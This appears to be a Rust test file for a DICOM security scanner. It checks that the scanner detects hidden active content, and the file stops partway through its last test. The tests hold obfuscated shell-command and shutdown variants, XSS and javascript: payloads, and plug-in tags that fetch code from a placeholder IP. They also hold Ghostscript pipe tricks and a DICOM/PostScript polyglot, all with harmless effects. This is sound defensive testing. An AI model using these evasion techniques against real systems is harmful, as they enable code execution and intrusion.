//! What other programs act on, proven with the programs themselves: dash runs the shell
//! cases, Python's `html.parser` reads the markup cases, `gzip`/`tar`/`python3` write the
//! archives and bytecode. Each case is run (or parsed) by the real program first, then
//! screened.
#![allow(clippy::disallowed_methods)] // temporary files for the real programs

use std::path::{Path, PathBuf};
use std::process::Command;

use pacsguard_dicom::{
    Container, Format, Inspection, MAX_SHELL_CASE_NESTING, find_markup, find_shell_command, inspect,
};
use pacsguard_events::{FindingKind, Severity};
use pacsguard_testkit as kit;

struct TempDir(PathBuf);

impl TempDir {
    fn new() -> TempDir {
        static COUNTER: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let n = COUNTER.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let dir =
            std::env::temp_dir().join(format!("pacsguard-readers-{}-{n}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        TempDir(dir)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// Runs `script` with dash (as `sh file` does) and returns what it printed.
fn dash(script: &[u8]) -> String {
    let dir = TempDir::new();
    let file = dir.path("script.dcm");
    std::fs::write(&file, script).expect("write");
    let out = Command::new("dash")
        .arg(&file)
        .current_dir(&dir.0)
        .env("PATH", "/usr/bin:/bin")
        .output()
        .expect("dash (Debian's /bin/sh)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Review finding (r10): constructs dash accepts broke the model before the command (so
/// the command was not found), and command names disguised as dash resolves them were
/// not recognised. Each script prints RAN through `sh`, proven by dash itself.
#[test]
fn commands_dash_runs_are_found_however_they_are_written() {
    let lead = "\u{1}\u{2}binary\u{7f}\n"; // a line of garbage: "not found", and on
    let cases = [
        ": $((1+1))\nsh -c 'echo RAN'\n",
        ": ${X%)}\nsh -c 'echo RAN'\n",
        "case a in (a) sh -c 'echo RAN';; esac\n",
        "case a in\na|b) sh -c 'echo RAN'\n;;\nesac\n",
        "f(){ sh -c 'echo RAN'; }\nf\n",
        "f() {}\nsh -c 'echo RAN'\n",
        "\\sh -c 'echo RAN'\n",
        "s''h -c 'echo RAN'\n",
        "\"sh\" -c 'echo RAN'\n",
        "X=s; ${X}h -c 'echo RAN'\n",
        "X=s\n$(echo ${X}h) -c 'echo RAN'\n",
        "env sh -c 'echo RAN'\n",
        "env -i PATH=/bin:/usr/bin sh -c 'echo RAN'\n",
        "nice -n 5 sh -c 'echo RAN'\n",
        "command sh -c 'echo RAN'\n",
        "timeout 9 sh -c 'echo RAN'\n",
        "exec sh -c 'echo RAN'\n",
        "nohup sh -c 'echo RAN' 2>/dev/null\n",
        "busybox sh -c 'echo RAN'\n",
        "awk 'BEGIN{system(\"echo RAN\")}'\n",
        "python3 -c 'print(\"RAN\")'\n",
        "perl -e 'print \"RAN\\n\"'\n",
        "echo x <<EOF\nunterminated here-document\nsh -c 'echo RAN'\n",
        "{ sh -c 'echo RAN'; }\n",
        "(sh -c 'echo RAN')\n",
        "! sh -c 'echo RAN'\n",
        // A command string a builtin runs later (review s5-r10): the trap's action, the
        // alias's value, what find runs.
        "trap \"sh -c 'echo RAN'\" EXIT\n",
        "trap 'sh -c \"echo RAN\"' EXIT\n",
        "alias t=sh\nt -c 'echo RAN'\n",
        "alias t='sh -c \"echo RAN\"'\nt\n",
        "find /etc/hostname -exec sh -c 'echo RAN' \\;\n",
        "find /etc/hostname -maxdepth 0 -execdir sh -c 'echo RAN' \\;\n",
    ];
    for case in cases {
        let script = format!("{lead}{case}");
        if case.starts_with("busybox") && !Path::new("/bin/busybox").exists() {
            assert!(find_shell_command(script.as_bytes()).is_some(), "{case:?}");
            continue;
        }
        let printed = dash(script.as_bytes());
        let runs = printed.contains("RAN") || case.contains("here-document");
        assert!(runs, "dash does not run {case:?}: {printed:?}");
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{case:?}: {found:?}"
        );
    }
}

/// Power commands dash runs as the programs they name, proven with stand-ins: each of
/// `POWER_PROGRAMS` is a script printing RAN, first in PATH (the real ones never run).
const POWER_PROGRAMS: [&str; 8] = [
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "init",
    "telinit",
    "systemctl",
    "sudo",
];

/// Runs `script` with dash with stand-ins of [`POWER_PROGRAMS`] first in PATH.
fn dash_with_power_stand_ins(script: &[u8]) -> String {
    use std::os::unix::fs::PermissionsExt;
    let dir = TempDir::new();
    let bin = dir.path("bin");
    std::fs::create_dir(&bin).expect("bin");
    for name in POWER_PROGRAMS {
        let program = bin.join(name);
        std::fs::write(&program, "#!/bin/sh\necho RAN\n").expect("stand-in");
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let file = dir.path("script.dcm");
    std::fs::write(&file, script).expect("write");
    let out = Command::new("dash")
        .arg(&file)
        .current_dir(&dir.0)
        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
        .output()
        .expect("dash (Debian's /bin/sh)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Review of session 42 (issue 10, class 1): dash runs a power command quoted or
/// escaped (`'shutdown'`, `"poweroff"`, `\reboot`, `s''hutdown`), bare (`reboot`), and
/// `init`/`telinit` with a runlevel: each is an alert. Report prose with the same words
/// runs none of them and stays clean.
#[test]
fn power_commands_dash_runs_are_found_however_they_are_written() {
    let lead = "\u{1}\u{2}binary\u{7f}\n";
    for case in [
        "init 0\n",
        "telinit 0\n",
        "init 6\n",
        "reboot\n",
        "halt\n",
        "reboot; echo done\n",
        "'shutdown' -h now\n",
        "\"poweroff\"\n",
        "\\reboot\n",
        "s''hutdown -h now\n",
        "\"reboot\" -f\n",
        "env reboot\n",
        "command 'init' 6\n",
        "sudo shutdown now\n",
        "systemctl poweroff\n",
    ] {
        let script = format!("{lead}{case}");
        let printed = dash_with_power_stand_ins(script.as_bytes());
        assert!(
            printed.contains("RAN"),
            "dash does not run {case:?}: {printed:?}"
        );
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{case:?}: {found:?}"
        );
    }
    for prose in [
        "the scanner will reboot at 10:40\n",
        "Init 0 dose\n",
        "shutdown of the CT for service\n",
        "Reboot\n",
    ] {
        let script = format!("{lead}{prose}");
        let printed = dash_with_power_stand_ins(script.as_bytes());
        // `shutdown of …` reaches the stand-in, which takes any words; the real
        // shutdown refuses `of` ("Failed to parse time specification").
        if !prose.starts_with("shutdown") {
            assert!(!printed.contains("RAN"), "{prose:?}: {printed:?}");
        }
        assert_eq!(find_shell_command(script.as_bytes()), None, "{prose:?}");
    }
}

/// What dash stops at is still a stop: nothing after a syntax error runs, and report text
/// is not a command.
#[test]
fn what_dash_refuses_or_does_not_run_is_not_a_command() {
    for script in [
        "x)\nsh -c 'echo RAN'\n",
        ": ${X\nsh -c 'echo RAN'\n",
        "(x) y\nsh -c 'echo RAN'\n",
        "x\n;;\nsh -c 'echo RAN'\n",
        "The time of injection was noted; nice images.\n",
        "command line reviewed\n",
        "trap the signal and alias the name to find the cause.\n",
        "trap 'echo done' EXIT\nalias ll='ls -l'\nfind . -exec ls {} \\;\n",
    ] {
        assert!(!dash(script.as_bytes()).contains("RAN"), "{script:?}");
        assert_eq!(find_shell_command(script.as_bytes()), None, "{script:?}");
    }
}

/// The case-nesting limit: at it the model follows the script, past it it says it cannot
/// tell (a warning), never "text".
#[test]
fn case_nesting_at_the_limit_is_followed_and_past_it_is_a_warning() {
    let nested = |depth: usize| {
        let mut script = String::new();
        for _ in 0..depth {
            script.push_str("case a in a)\n");
        }
        script.push_str("sh -c 'echo RAN'\n");
        for _ in 0..depth {
            script.push_str(";; esac\n");
        }
        script
    };
    let at_limit = nested(MAX_SHELL_CASE_NESTING);
    assert!(dash(at_limit.as_bytes()).contains("RAN"));
    let found = find_shell_command(at_limit.as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Alert, "{found:?}");
    let past = nested(MAX_SHELL_CASE_NESTING + 1);
    assert!(dash(past.as_bytes()).contains("RAN"));
    let found = find_shell_command(past.as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Warning, "{found:?}");
    assert!(
        found.detail.contains("MAX_SHELL_CASE_NESTING"),
        "{}",
        found.detail
    );
}

/// Python's `html.parser` (an HTML tokenizer written by others) reads the tag and gives
/// back the attribute the search must find: proof that the markup is what a browser sees.
fn html_parser_attributes(markup: &str) -> String {
    let program = "import sys, html.parser\n\
        class P(html.parser.HTMLParser):\n\
        \x20   def handle_starttag(self, tag, attrs):\n\
        \x20       for k, v in attrs: print(tag, k, repr(v))\n\
        p = P(); p.feed(sys.stdin.read()); p.close()\n";
    let mut child = Command::new("python3")
        .arg("-c")
        .arg(program)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(markup.as_bytes())
        .expect("write");
    let out = child.wait_with_output().expect("python3 output");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Review finding (r10): `>`/`<` in quoted values, values past 512 bytes, `javascript:`
/// URLs and entity-encoded schemes walked around the markup search.
#[test]
fn markup_is_read_as_an_html_tokenizer_reads_it() {
    let long = format!("<img alt=\"{}\" src=x onerror=alert(1)>", "a".repeat(3000));
    let cases: [(&str, &str); 6] = [
        (
            "<img alt=\"a>b\" src=x onerror=alert(1)>",
            "img onerror 'alert(1)'",
        ),
        (
            "<img alt='<b>' onerror=alert(1) src=x>",
            "img onerror 'alert(1)'",
        ),
        (&long, "img onerror 'alert(1)'"),
        (
            "<a href=\"javascript:alert(1)\">x</a>",
            "a href 'javascript:alert(1)'",
        ),
        (
            "<iframe src=\"&#106;avascript:alert(1)\"></iframe>",
            "iframe src 'javascript:alert(1)'",
        ),
        (
            "<form action=vbscript:msgbox(1)><input type=submit></form>",
            "form action 'vbscript:msgbox(1)'",
        ),
    ];
    for (markup, parsed) in cases {
        let seen = html_parser_attributes(markup);
        assert!(
            seen.contains(parsed),
            "html.parser reads {markup:.60}: {seen}"
        );
        let mut file = b"\0\x01vendor bytes ".to_vec();
        file.extend_from_slice(markup.as_bytes());
        let found = find_markup(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|m| m.severity == Severity::Alert),
            "{markup:.60}: {found:?}"
        );
        // In a DICOM text element, as a viewer shows it.
        let dicom = kit::DicomBuilder::ct("1.2.3.40")
            .element(0x0008, 0x103E, *b"LO", markup.as_bytes())
            .build();
        assert!(
            has_alert(&inspect(&dicom), FindingKind::ActiveContent),
            "{markup:.60}"
        );
    }
}

/// Issue 10 (session 13): plug-in content that runs code with no script of the page, named
/// any of the ways a page names it (an `<applet>`, a Java or Flash MIME type on an
/// `<object>` or `<embed>`, a `.swf` movie, a class id in backticks, which mshta's engine
/// reads as quotes): Python's html.parser reads each tag as the search does, and each is
/// an alert in a DICOM text element.
#[test]
fn plugin_content_in_markup_is_read_as_a_tokenizer_reads_it() {
    let cases: [(&str, &str); 12] = [
        (
            "<applet code=\"Evil.class\" archive=\"evil.jar\" width=1></applet>",
            "applet code 'Evil.class'",
        ),
        (
            "<embed type=\"application/x-java-applet;version=1.6\" code=Evil.class>",
            "embed type 'application/x-java-applet;version=1.6'",
        ),
        (
            "<object type=application/x-shockwave-flash data=x></object>",
            "object type 'application/x-shockwave-flash'",
        ),
        (
            "<embed src=\"http://203.0.113.7/x.swf\">",
            "embed src 'http://203.0.113.7/x.swf'",
        ),
        (
            "<object classid=`clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389` data=`http://203.0.113.7/a.sct`>",
            "object classid '`clsid:AE24FDAE-03C6-11D1-8B76-0080C744F389`'",
        ),
        (
            "<object classid=\"&#99;lsid&#x3a;{8AD9C840-044E-11D1-B3E9-00805F499D93}\">",
            "object classid 'clsid:{8AD9C840-044E-11D1-B3E9-00805F499D93}'",
        ),
        // Issue 10 (session 15): types written with entities, the other Java and Flash
        // types, a serialized applet, a control's code base.
        (
            "<embed type=\"application&#47;x-shockwave-flash\" src=x>",
            "embed type 'application/x-shockwave-flash'",
        ),
        (
            "<object type=\"application&sol;x-java-applet\"><param name=code value=Evil>",
            "object type 'application/x-java-applet'",
        ),
        (
            "<embed type=\"application/futuresplash\" src=x>",
            "embed type 'application/futuresplash'",
        ),
        (
            "<object type=\"application/java-vm\"><param name=code value=Evil></object>",
            "object type 'application/java-vm'",
        ),
        (
            "<applet object=\"Evil.ser\" archive=\"evil.jar\" width=1></applet>",
            "applet object 'Evil.ser'",
        ),
        (
            "<object codebase=\"http://203.0.113.7/x.cab#version=1,0\" width=1>",
            "object codebase 'http://203.0.113.7/x.cab#version=1,0'",
        ),
    ];
    for (markup, parsed) in cases {
        let seen = html_parser_attributes(markup);
        assert!(
            seen.contains(parsed),
            "html.parser reads {markup:.60}: {seen}"
        );
        let dicom = kit::DicomBuilder::ct("1.2.3.41")
            .element(0x0008, 0x103E, *b"LO", markup.as_bytes())
            .build();
        assert!(
            has_alert(&inspect(&dicom), FindingKind::ActiveContent),
            "{markup:.60}"
        );
    }
    // A document, an image and prose naming the types run nothing.
    for markup in [
        "<object data=\"report.pdf\" type=\"application/pdf\"></object>",
        "<embed src=\"scan.png\">",
        "Plug-in types: application/x-java-applet, application/x-shockwave-flash.",
    ] {
        let dicom = kit::DicomBuilder::ct("1.2.3.42")
            .element(0x0008, 0x103E, *b"LO", markup.as_bytes())
            .build();
        assert!(alerts(&inspect(&dicom)).is_empty(), "{markup}");
    }
}

/// Issue 10 (session 18): the code a plug-in is handed by `<param>` tags of an `<object>`
/// or `<applet>` (`code`, `archive`, `codebase`, `object`, the `java_` spellings,
/// `jnlp_href`, a Flash movie), by Java attributes of an `<embed>` or `<applet>`, and an
/// `<embed>` naming an ActiveX class: Python's html.parser reads each tag as the search
/// does, and each is an alert in a DICOM text element. An `<object>` of a class or type
/// that runs nothing, with inert parameters, is none.
#[test]
fn plugin_params_and_embed_classes_are_read_as_a_tokenizer_reads_them() {
    let unknown = "clsid:00000000-1111-2222-3333-444444444444";
    let cases: Vec<(String, &str)> = vec![
        (
            format!("<object classid=\"{unknown}\"><param name=code value=Evil.class></object>"),
            "param name 'code'",
        ),
        (
            "<applet width=1><param name=\"java_code\" value=\"Evil\"></applet>".to_owned(),
            "param name 'java_code'",
        ),
        (
            "<OBJECT width=1><PARAM NAME=\"&#99;ode\" VALUE=\"Evil.class\"></OBJECT>".to_owned(),
            "param name 'code'",
        ),
        (
            "<object><param name=\"java&lowbar;archive\" value=\"e.jar\"></object>".to_owned(),
            "param name 'java_archive'",
        ),
        (
            "<object type=\"application/x-other\">\n <param name=archive value='http://203.0.113.7/e.jar'/></object>".to_owned(),
            "param name 'archive'",
        ),
        (
            "<object><param name=jnlp_href value=launch.jnlp></object>".to_owned(),
            "param name 'jnlp_href'",
        ),
        (
            "<object><param value=x><param name=codebase value=http://203.0.113.7/></object>".to_owned(),
            "param name 'codebase'",
        ),
        (
            "<object width=1><param name=movie value=\"x&period;swf?a=1\"></object>".to_owned(),
            "param value 'x.swf?a=1'",
        ),
        (
            "<embed classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\" src=x>".to_owned(),
            "embed classid 'clsid:D27CDB6E-AE6D-11cf-96B8-444553540000'",
        ),
        (
            "<embed code=Evil.class width=1>".to_owned(),
            "embed code 'Evil.class'",
        ),
        (
            "<embed java_archive=\"e.jar\" width=1>".to_owned(),
            "embed java_archive 'e.jar'",
        ),
        (
            "<applet archive=\"evil.jar\" width=1></applet>".to_owned(),
            "applet archive 'evil.jar'",
        ),
        (
            format!("<object classid=\"{unknown}\">{}<param name=code value=E></object>", "<p>x</p>".repeat(2000)),
            "param name 'code'",
        ),
    ];
    for (markup, parsed) in &cases {
        let seen = html_parser_attributes(markup);
        assert!(
            seen.contains(parsed),
            "html.parser reads {markup:.60}: {seen}"
        );
        let dicom = kit::DicomBuilder::ct("1.2.3.43")
            .element(0x0008, 0x103E, *b"LO", markup.as_bytes())
            .build();
        assert!(
            has_alert(&inspect(&dicom), FindingKind::ActiveContent),
            "{markup:.60}"
        );
    }
    for markup in [
        "<object data=\"report.pdf\" type=\"application/pdf\"><param name=zoom value=100></object>"
            .to_owned(),
        format!("<object classid=\"{unknown}\"><param name=code value=\"\"></object>"),
        // A parameter after the object's end is none of its own.
        "<object data=x.pdf></object><param name=code value=Evil.class>".to_owned(),
        "Applet parameters: name=code, archive, codebase.".to_owned(),
    ] {
        let dicom = kit::DicomBuilder::ct("1.2.3.44")
            .element(0x0008, 0x103E, *b"LO", markup.as_bytes())
            .build();
        assert!(alerts(&inspect(&dicom)).is_empty(), "{markup}");
    }
}

/// A DOS EPS binary header: magic, the PostScript section's offset and length, no WMF or
/// TIFF preview, no checksum (as Adobe's format gives it, 30 bytes).
fn dos_eps_header(ps_offset: u32, ps_len: u32) -> Vec<u8> {
    let mut header = vec![0xC5, 0xD0, 0xD3, 0xC6];
    for word in [ps_offset, ps_len, 0, 0, 0, 0] {
        header.extend_from_slice(&word.to_le_bytes());
    }
    header.extend_from_slice(&[0xFF, 0xFF]);
    header
}

/// What libmagic (`file -b`) calls `bytes`: the format sniffers of the readers that hand
/// such files to Ghostscript see the same. Empty where `file` is not installed.
fn libmagic(bytes: &[u8]) -> String {
    let dir = TempDir::new();
    let path = dir.path("sample");
    std::fs::write(&path, bytes).expect("write");
    Command::new("file")
        .arg("-b")
        .arg(&path)
        .output()
        .map(|out| String::from_utf8_lossy(&out.stdout).into_owned())
        .unwrap_or_default()
}

/// Issue 10 (session 13): EPS and PostScript were not screened: an EPS (`%!PS-Adobe-3.0
/// EPSF-3.0`) opening a pipe (`(%pipe%…) (w) file`) or using a file operator
/// (`deletefile`, `renamefile`, `file`, `run`), and a DOS EPS binary header (`C5D0D3C6`) in
/// a DICOM preamble pointing at such a PostScript section inside an element, got no
/// finding. libmagic reads each EPS and DOS EPS file as EPS; each is an alert.
#[test]
fn eps_and_postscript_that_pipe_or_use_file_operators_are_alerts() {
    let eps = |body: &str| {
        format!(
            "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\n{body}\nshowpage\n%%EOF\n"
        )
        .into_bytes()
    };
    let postscript = |inspection: &Inspection| {
        inspection.observations.iter().any(|o| {
            o.severity == Severity::Alert && o.format == Some(pacsguard_dicom::Format::PostScript)
        })
    };
    let magic = Path::new("/usr/bin/file").exists();
    for body in [
        "(%pipe%touch RAN) (w) file pop",
        "<< /OutputFile (%pipe%touch RAN) >> setpagedevice",
        "(/tmp/x) deletefile",
        "(/tmp/x) (/tmp/y) renamefile",
        "(/tmp/x.ps) run",
    ] {
        let file = eps(body);
        if magic {
            assert!(libmagic(&file).contains("EPS"), "{}", libmagic(&file));
        }
        let inspection = inspect(&file);
        assert!(postscript(&inspection), "{body}: {inspection:?}");
        // The DOS EPS form of the same program.
        let mut binary = dos_eps_header(30, file.len() as u32);
        binary.extend_from_slice(&file);
        if magic {
            assert!(libmagic(&binary).contains("EPS"), "{}", libmagic(&binary));
        }
        assert!(postscript(&inspect(&binary)), "DOS EPS {body}");
    }
    // A DICOM file whose preamble is a DOS EPS header pointing into a private element.
    let section = eps("(%pipe%touch RAN) (w) file pop");
    let mut value = section.clone();
    if value.len() % 2 == 1 {
        value.push(b' ');
    }
    let placeholder = dos_eps_header(0, 0);
    let draft = kit::DicomBuilder::ct("1.2.3.43")
        .preamble(&placeholder)
        .element(0x0009, 0x1010, *b"OB", &value)
        .build();
    let at = memchr::memmem::find(&draft, &section).expect("section in the file");
    let header = dos_eps_header(at as u32, section.len() as u32);
    let dicom = kit::DicomBuilder::ct("1.2.3.43")
        .preamble(&header)
        .element(0x0009, 0x1010, *b"OB", &value)
        .build();
    assert_eq!(memchr::memmem::find(&dicom, &section), Some(at));
    // (libmagic names it DICOM, by `DICM` at 128; Ghostscript, given the file, follows
    // the DOS EPS header at its start: not installed here to prove it.)
    assert!(postscript(&inspect(&dicom)), "{:?}", inspect(&dicom));
    // An EPS that only draws, and the same words as text and comments, is no finding.
    for body in [
        "0 0 moveto /Helvetica findfont 10 scalefont setfont (run file deletefile) show",
        "% (%pipe%touch RAN) (w) file",
        "(%stdin) (r) file pop",
    ] {
        let inspection = inspect(&eps(body));
        assert!(!postscript(&inspection), "{body}: {inspection:?}");
    }
}

/// Review s14-r01: Ghostscript runs any file it is handed from its first byte, and a
/// DICOM file whose preamble is PostScript (no `%!`) ran a pipe under `gs -dNOSAFER
/// file.dcm` and was clean; so were EPS files that built the pipe at run time and ran
/// `file` by name, or set the output file. Each case runs under the real gs first where
/// it is installed; and gs stops at `DICM` before a pipe in an element of a file with a
/// zero preamble, which is no finding.
#[test]
fn postscript_ghostscript_runs_from_any_file_start_is_found() {
    let gs = Path::new("/usr/bin/gs").exists();
    let gs_runs = |bytes: &[u8]| {
        runs_in_dir(
            "gs",
            &[
                "-q",
                "-dNOSAFER",
                "-dBATCH",
                "-dNOPAUSE",
                "-sDEVICE=png16m",
                "-sOutputFile=/dev/null",
                "f",
            ],
            b"",
            &[("f", bytes)],
        )
    };
    let postscript_alert = |inspection: &Inspection| {
        inspection.observations.iter().any(|o| {
            o.severity == Severity::Alert && o.format == Some(pacsguard_dicom::Format::PostScript)
        })
    };
    let built = "/s (XpipeXtouch RAN) def s 0 37 put s 5 37 put";
    let dicom = |preamble: &[u8], text: &[u8]| {
        kit::DicomBuilder::ct("1.2.3.44")
            .preamble(preamble)
            .element(0x0008, 0x103E, *b"LO", text)
            .build()
    };
    let pad = |p: &str| format!("{p:<128}").into_bytes();
    let pipe = "(%pipe%touch RAN) (w) file pop ";
    // A preamble that defines `DICM\x02` (the name gs reads at offset 128) to skip the
    // header to a pipe in an element, with `currentfile`.
    let in_element = format!("{pipe} ");
    let draft = dicom(&pad(""), in_element.as_bytes());
    let at = memchr::memmem::find(&draft, pipe.as_bytes()).expect("pipe") - 134;
    let skip = [
        &b"/DICM\x02 "[..],
        format!("{{currentfile {at} string readstring pop pop}} def").as_bytes(),
    ]
    .concat();
    let skipped = dicom(
        &[&skip[..], &vec![b' '; 128 - skip.len()]].concat(),
        in_element.as_bytes(),
    );
    let walked: Vec<Vec<u8>> = vec![
        dicom(&pad(pipe), b"Head "),
        dicom(&pad(&format!("{built} s (w) /file cvx exec pop")), b"Head "),
        skipped,
        format!("%!PS\n{built} s (w) //file pop\n").into_bytes(),
        format!("%!PS\n{built} << /OutputFile s >> setpagedevice showpage\n").into_bytes(),
        [
            &b"\x04"[..],
            format!("%!PS\n{built} s (w) (file) cvn cvx exec pop\n").as_bytes(),
        ]
        .concat(),
        // Issue 10 (session 15): a name or code built at run time and run.
        format!("%!PS\n{built} s (w) (xile) dup 0 102 put cvn cvx exec pop\n").into_bytes(),
        format!("%!PS\n{built} s (w) (xile) dup 0 102 put cvn load exec pop\n").into_bytes(),
        b"%!PS\ncurrentfile /ASCIIHexDecode filter cvx exec\n28257069706525746f7563682052414e29202877292066696c6520706f70>\n".to_vec(),
        dicom(
            &pad(&format!("{built} s (w) (xile) dup 0 102 put cvn cvx exec pop")),
            b"Head ",
        ),
    ];
    for file in &walked {
        let shown = String::from_utf8_lossy(&file[..file.len().min(80)]).into_owned();
        if gs {
            assert!(gs_runs(file), "gs did not run {shown}");
        }
        assert!(
            postscript_alert(&inspect(file)),
            "{shown}: {:?}",
            inspect(file)
        );
    }
    let stopped = dicom(&[0; 128], format!("{pipe} ").as_bytes());
    if gs {
        assert!(!gs_runs(&stopped), "gs ran past DICM");
    }
    assert!(
        !postscript_alert(&inspect(&stopped)),
        "{:?}",
        inspect(&stopped)
    );
}

fn has_alert(inspection: &Inspection, kind: FindingKind) -> bool {
    inspection
        .observations
        .iter()
        .any(|o| o.kind == kind && o.severity == Severity::Alert)
}

fn run(program: &str, args: &[&str], dir: &Path) {
    let status = Command::new(program)
        .args(args)
        .current_dir(dir)
        .status()
        .unwrap_or_else(|e| panic!("{program}: {e}"));
    assert!(status.success(), "{program} {args:?}");
}

/// Review finding (r10): gzip, tar, xz and Python bytecode were not sniffed: a `.pyc`
/// named `.dcm` was only "not DICOM", a `.tgz` carrying a PE was info. Built with the
/// real gzip, tar and python3.
#[test]
fn archives_and_bytecode_are_opened_and_screened_as_what_they_carry() {
    let dir = TempDir::new();
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    run("tar", &["czf", "evil.tgz", "launcher.exe"], &dir.0);
    run("tar", &["cf", "evil.tar", "launcher.exe"], &dir.0);
    run("tar", &["czf", "fine.tgz", "notes.txt"], &dir.0);
    std::fs::write(dir.path("hello.py"), b"print('RAN')\n").expect("write");
    run("python3", &["-m", "py_compile", "hello.py"], &dir.0);
    let pyc = std::fs::read_dir(dir.path("__pycache__"))
        .expect("pycache")
        .next()
        .expect("pyc")
        .expect("entry")
        .path();
    let ran = Command::new("python3").arg(&pyc).output().expect("python3");
    assert!(
        String::from_utf8_lossy(&ran.stdout).contains("RAN"),
        "python3 runs the .pyc"
    );
    let read = |name: &str| std::fs::read(dir.path(name)).expect("read");

    // Named .dcm: what a program acts on is an alert with its format.
    for (bytes, format) in [
        (read("evil.tgz"), Format::Pe),
        (read("evil.tar"), Format::Pe),
        (std::fs::read(&pyc).expect("pyc"), Format::PythonBytecode),
    ] {
        let inspection = inspect(&bytes);
        assert_eq!(inspection.container, Container::NotDicom);
        let alert = inspection
            .observations
            .iter()
            .find(|o| o.severity == Severity::Alert)
            .unwrap_or_else(|| panic!("{:#?}", inspection.observations));
        assert_eq!(alert.kind, FindingKind::ExecutableFile);
        assert_eq!(alert.format, Some(format), "{alert:?}");
        assert_eq!(
            inspection
                .observations
                .iter()
                .filter(|o| o.kind == FindingKind::ExecutableFile)
                .count(),
            1,
            "one finding for the file itself: {:#?}",
            inspection.observations
        );
        assert!(
            inspection
                .observations
                .iter()
                .all(|o| o.severity != Severity::Warning),
            "{:#?}",
            inspection.observations
        );
    }
    // A gzip of report text is no program: the lesser "not DICOM".
    let inspection = inspect(&read("fine.tgz"));
    assert!(
        !has_alert(&inspection, FindingKind::ExecutableFile),
        "{:#?}",
        inspection.observations
    );
    assert_eq!(inspection.observations[0].kind, FindingKind::NotDicom);

    // In a private element of a real CT: the archive carrying a PE is found.
    for name in ["evil.tgz", "evil.tar"] {
        let dicom = kit::DicomBuilder::ct("1.2.3.41")
            .element(0x0009, 0x1010, *b"OB", &read(name))
            .build();
        let inspection = inspect(&dicom);
        assert!(
            has_alert(&inspection, FindingKind::EmbeddedExecutable),
            "{name}: {:#?}",
            inspection.observations
        );
    }
    let dicom = kit::DicomBuilder::ct("1.2.3.42")
        .element(0x0009, 0x1010, *b"OB", &read("fine.tgz"))
        .build();
    assert!(
        inspect(&dicom)
            .observations
            .iter()
            .all(|o| o.severity < Severity::Warning)
    );
}

/// Session 4's merge fix (42fdfdc): a not-DICOM file's start reported as a whole must not
/// hide what else is found at offset 0. A bare PDF's budget warning (reported at offset
/// 0) is kept beside the executable-file alert, with its script; a bare PE is one finding.
#[test]
fn a_bare_pdf_keeps_its_actions_and_warnings_at_offset_zero() {
    let filters = " /AHx".repeat(pacsguard_dicom::MAX_PDF_FILTERS + 1);
    let pdf = format!(
        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS 3 0 R >> /AA << /WC << /S /JavaScript /JS (app.alert\\('zero'\\)) >> >> >>\nendobj\n\
         3 0 obj\n<< /Length 2 /Filter [{filters} ] >>\nstream\n41\nendstream\nendobj\n\
         trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    );
    // A PDF runs nothing itself (s5-r10: a benign report.pdf was an alert): its actions
    // are the alerts; named as DICOM, the PDF itself is one too.
    let inspection = inspect(pdf.as_bytes()).named("IM0001.dcm");
    assert_eq!(inspection.container, Container::NotDicom);
    let observations = &inspection.observations;
    assert!(
        observations
            .iter()
            .any(|o| o.kind == FindingKind::ExecutableFile && o.format == Some(Format::Pdf)),
        "{observations:#?}"
    );
    assert!(
        observations
            .iter()
            .any(|o| o.kind == FindingKind::NotInspected
                && o.offset == Some(0)
                && o.detail.contains("filters on one stream")),
        "the budget warning at offset 0 is reported: {observations:#?}"
    );
    assert!(
        observations.iter().any(|o| o.kind == FindingKind::ActiveContent
            && o.detail.contains("app.alert('zero')")),
        "{observations:#?}"
    );
    let pe = inspect(&kit::real_pe());
    let alerts: Vec<_> = pe
        .observations
        .iter()
        .filter(|o| o.severity == Severity::Alert)
        .collect();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert_eq!(alerts[0].kind, FindingKind::ExecutableFile);
}

/// The word-nesting limit: `"${x:-"${x:-…}"}"` nested to it is followed; one level more
/// is a warning. dash runs both. (Review r22-screen: nested `"$(` units reach
/// MAX_SHELL_SUBSTITUTION_NESTING first, now that a name made by a substitution inside
/// one is read; parameter expansions nest words without nesting substitutions.)
#[test]
fn word_nesting_at_the_limit_is_followed_and_past_it_is_a_warning() {
    use pacsguard_dicom::MAX_SHELL_WORD_NESTING;
    // Each `"${x:-` is three levels (quotes, `$`, braces).
    let nested = |units: usize| {
        format!(
            ": {}x{}\nsh -c 'echo RAN'\n",
            "\"${x:-".repeat(units),
            "}\"".repeat(units)
        )
    };
    let within = MAX_SHELL_WORD_NESTING / 3;
    let at_limit = nested(within);
    assert!(dash(at_limit.as_bytes()).contains("RAN"));
    let found = find_shell_command(at_limit.as_bytes()).expect("found");
    assert_eq!(found.severity, Severity::Alert, "{found:?}");
